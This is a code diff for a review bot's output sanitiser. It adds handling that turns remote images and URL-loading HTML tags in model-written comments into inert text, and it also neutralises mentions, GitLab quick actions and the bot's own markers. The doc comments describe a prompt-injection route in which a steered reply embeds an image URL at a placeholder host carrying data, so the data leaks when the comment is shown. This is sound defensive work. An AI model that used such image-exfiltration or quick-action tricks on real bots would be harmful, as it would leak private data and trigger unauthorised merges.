@@ -1,6 +1,6 @@
 /**
  * What a code-host comment may say, when its text is model output that payload text can
- * steer. Three things in it would act instead of being read:
+ * steer. Four things in it would act instead of being read:
  * - @mentions: every `@name`, `@org/team`, `@all` notifies someone (one event could ping
  *   hundreds of people). Unless `delivery.codehost.allow_mentions` is true, each is
  *   neutralised by a zero-width space after the `@` (U+200B): it still reads `@alice`, but
@@ -9,6 +9,8 @@
  * - Quick actions: GitLab runs a line starting with `/approve`, `/merge`, `/label` … in a
  *   note as a command by the note's author, the bot (ChatOps bots on GitHub read such lines
  *   too). Such a line gets a zero-width space before its `/`, always.
+ * - Remote images (`![](url)`, `<img src>`): fetched when the comment is shown, so a URL
+ *   carrying data would leak it unclicked. Made links, always (neutraliseImages).
  * - hookagent's own hidden markers (`<!-- hookagent:…`, `<!-- hookagent-reviewed:…`): a
  *   quoted one would tell the next run which comment is its own or which commit it last
  *   reviewed. Quoted ones become `<!-- (quoted) hookagent…`, always.
@@ -61,8 +63,8 @@ function codeSpanEnd(line: string, at: number): { run: number; end: number } {
   return { run, end: -1 };
 }
 
-/** One line outside fences: text parts neutralised; code spans (unless `inHtml`), autolinks and tags kept. */
-function neutraliseLine(line: string, inHtml: boolean): string {
+/** One line outside fences: text parts through `onText`, tags and autolinks through `onTag`, code spans (unless `inHtml`) kept. */
+function mapLine(line: string, inHtml: boolean, onText: (text: string) => string, onTag: (tag: string) => string = (tag) => tag): string {
   let out = '';
   let text = '';
   for (let i = 0; i < line.length;) {
@@ -76,7 +78,7 @@ function neutraliseLine(line: string, inHtml: boolean): string {
       INLINE_HTML.lastIndex = i;
       const tag = INLINE_HTML.exec(line);
       if (tag) {
-        out += neutraliseText(text) + tag[0];
+        out += onText(text) + onTag(tag[0]);
         text = '';
         i += tag[0].length;
         continue;
@@ -85,7 +87,7 @@ function neutraliseLine(line: string, inHtml: boolean): string {
     if (c === '`' && !inHtml) {
       const { run, end } = codeSpanEnd(line, i);
       if (end > 0) {
-        out += neutraliseText(text) + line.slice(i, end);
+        out += onText(text) + line.slice(i, end);
         text = '';
         i = end;
       } else {
@@ -98,12 +100,12 @@ function neutraliseLine(line: string, inHtml: boolean): string {
     text += c;
     i += 1;
   }
-  return out + neutraliseText(text);
+  return out + onText(text);
 }
 
 /** The text with every @mention outside code neutralised (pure; idempotent). */
 export function neutraliseMentions(text: string): string {
-  return mapOutsideCode(text, (line, inHtml) => neutraliseLine(line, inHtml));
+  return mapOutsideCode(text, (line, inHtml) => mapLine(line, inHtml, neutraliseText));
 }
 
 /** Applies `change` to every line that is not inside a fenced code block. */
@@ -137,13 +139,29 @@ export function neutraliseMarkers(text: string): string {
   return text.replace(MARKER, '<!--$1(quoted) hookagent');
 }
 
-/** Model text posted where no setting allows mentions (inline findings): all three made inert. */
-export function inertText(text: string): string {
-  return neutraliseMentions(neutraliseMarkers(neutraliseQuickActions(text)));
+/** `![alt](url)` (not escaped): an image; made a link by dropping the `!`. */
+const IMAGE = /(?<!\\)!\[/g;
+/** Tags that load a URL when the comment is shown: img, picture/source, video, audio, and the like. */
+const LOADING_TAG = /<(?=(?:img|image|picture|source|video|audio|track|embed|object|iframe|svg|input)(?:[\s/>]|$))/gi;
+
+/**
+ * Remote images made links (outside code, always): GitHub and GitLab fetch an image when
+ * the comment is shown, so a reply steered into `![](https://x.example/?q=<data>)` or
+ * `<img src=…>` would send what the bot read to that server without anyone clicking.
+ * Markdown images become plain links (`[alt](url)`); loading HTML tags are shown as text.
+ */
+export function neutraliseImages(text: string): string {
+  // In text too: a tag split over lines is not one the line scanner recognises, and CommonMark still renders it.
+  return mapOutsideCode(text, (line, inHtml) => mapLine(line, inHtml, (part) => part.replace(IMAGE, '[').replace(LOADING_TAG, '&lt;'), (tag) => tag.replace(LOADING_TAG, '&lt;')));
 }
 
-/** What a code-host comment says: the reply with quick actions and markers made inert, and its mentions unless the configuration allows them. */
+/** Model text posted where no setting allows mentions (inline findings): all of it made inert. */
+export function inertText(text: string): string {
+  return neutraliseMentions(neutraliseImages(neutraliseMarkers(neutraliseQuickActions(text))));
+}
+
+/** What a code-host comment says: the reply with quick actions, markers and remote images made inert, and its mentions unless the configuration allows them. */
 export function commentText(reply: string, settings: Pick<Config['delivery'], 'codehost'> | undefined): string {
-  const safe = neutraliseMarkers(neutraliseQuickActions(reply));
+  const safe = neutraliseImages(neutraliseMarkers(neutraliseQuickActions(reply)));
   return settings?.codehost.allow_mentions === true ? safe : neutraliseMentions(safe);
 }
